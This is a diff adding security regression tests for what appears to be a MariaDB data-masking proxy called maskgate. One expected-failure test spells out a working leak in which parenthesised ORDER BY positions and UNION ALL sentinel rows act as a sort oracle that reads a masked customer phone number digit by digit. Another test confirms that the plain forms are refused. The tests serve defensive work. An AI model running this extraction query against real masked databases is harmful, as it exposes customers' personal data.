@@ -314,6 +314,43 @@ def test_const_row_of_another_branch_in_a_warning(served: dict[str, Any]) -> Non
     assert str(created)[:19] not in texts(warnings), warnings
 
 
+@pytest.mark.xfail(
+    strict=True,
+    reason="LEAK: `ORDER BY (1)` / `GROUP BY (1)` is a column position to MariaDB (its parser drops the "
+    "parentheses) but a constant to maskgate, so masked_predicates: deny does not see the sort: "
+    "SUBSTR(phone, k, 1) sorted among ten UNION ALL sentinel digits reads the full mobile in 11 "
+    "statements",
+)
+def test_parenthesised_position_is_a_sort_oracle(served: dict[str, Any]) -> None:
+    target, phone = direct(
+        served, "SELECT id, phone FROM customers WHERE branch_id = 12 ORDER BY id LIMIT 1"
+    )[0]
+    sentinels = " ".join(f"UNION ALL SELECT '{d}', -{d + 1}" for d in range(10))
+    recovered = ""
+    with connect(served, VENDOR) as c:
+        for pos in range(1, len(phone) + 1):
+            got = run_all(
+                c,
+                f"SELECT SUBSTR(phone, {pos}, 1) AS a, id FROM customers WHERE id = {target} "
+                f"{sentinels} ORDER BY (1), (2)",
+            )
+            if not isinstance(got, list):
+                assert got == REFUSED
+                return
+            ids = [r[1] for r in got]
+            if target not in ids:
+                return
+            recovered += str(ids.index(target) - 1)  # the sentinels sorted before it: its digit + 1
+    assert recovered != phone, "the full mobile, read back through ORDER BY (1)"
+
+
+@pytest.mark.parametrize("order", ["ORDER BY 1", "ORDER BY +1", "GROUP BY 1", "ORDER BY a"])
+def test_plain_positions_and_aliases_are_refused(served: dict[str, Any], order: str) -> None:
+    """Stopped: the unparenthesised position, a signed one and the alias are seen as phone."""
+    with connect(served, VENDOR) as c:
+        assert run_all(c, f"SELECT phone AS a, id FROM customers {order} LIMIT 3") == REFUSED
+
+
 def test_row_filter_runs_before_the_vendors_condition_on_scans(served: dict[str, Any]) -> None:
     """Stopped: on a scan (no const table) the branch filter is tested first, so the warnings
     quote only branch 12's rows."""
